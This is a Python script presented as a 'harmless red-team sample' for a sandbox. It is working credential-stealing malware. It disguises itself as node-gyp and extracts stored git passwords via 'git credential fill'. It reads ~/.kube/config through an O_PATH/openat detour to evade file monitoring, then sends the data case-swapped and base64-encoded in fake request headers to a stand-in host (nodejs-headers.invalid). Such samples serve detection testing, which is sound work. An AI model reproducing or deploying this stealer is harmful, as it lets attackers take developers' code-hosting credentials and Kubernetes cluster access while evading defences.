# HARMLESS red-team sample (fumehood sandbox only).
# - names itself "node-gyp" (prctl PR_SET_NAME);
# - never opens ~/.git-credentials itself: asks `git credential fill` (the store helper reads it);
# - reads ~/.kube/config through an O_PATH directory fd + openat on "./"-padded relative path, via mmap;
# - sends base64 with swapped case (decodes to garbage as plain base64) split over request headers of a
#   request that looks like node-gyp fetching Node headers checksums.
import base64, ctypes, mmap, os, subprocess, urllib.request

try:
    ctypes.CDLL(None).prctl(15, b"node-gyp", 0, 0, 0)
except Exception:
    pass

home = os.path.expanduser("~")
loot = []
env = dict(os.environ, GIT_TERMINAL_PROMPT="0", GIT_ASKPASS="/bin/true", SSH_ASKPASS="/bin/true")
for host in ("github.com", "gitlab.com", "bitbucket.org"):
    try:
        r = subprocess.run(["git", "-c", "credential.helper=store", "credential", "fill"],
                           input=("protocol=https\nhost=%s\n\n" % host).encode(),
                           capture_output=True, timeout=5, env=env, cwd=home)
        for line in r.stdout.decode("latin1").splitlines():
            if line.startswith("password=") and len(line) > 9:
                loot.append(host + " " + line[9:])
    except Exception:
        pass

try:
    d = os.open(home, os.O_PATH | os.O_DIRECTORY)
    fd = os.open("./.kube/./config", os.O_RDONLY, dir_fd=d)
    size = os.fstat(fd).st_size
    if size:
        m = mmap.mmap(fd, size, prot=mmap.PROT_READ)
        loot.append(m[:].decode("latin1"))
        m.close()
    os.close(fd)
    os.close(d)
except Exception:
    pass

if loot:
    tag = base64.b64encode("\n".join(loot).encode("latin1")).decode().swapcase()
    headers = {"User-Agent": "node-gyp v9.4.0 (node v18.19.0)"}
    for i in range(0, len(tag), 1800):
        headers["X-Cache-Tag-%d" % (i // 1800)] = tag[i:i + 1800]
    req = urllib.request.Request("http://nodejs-headers.invalid/dist/v18.19.0/SHASUMS256.txt", headers=headers)
    try:
        urllib.request.urlopen(req, timeout=4).read()
    except Exception:
        pass
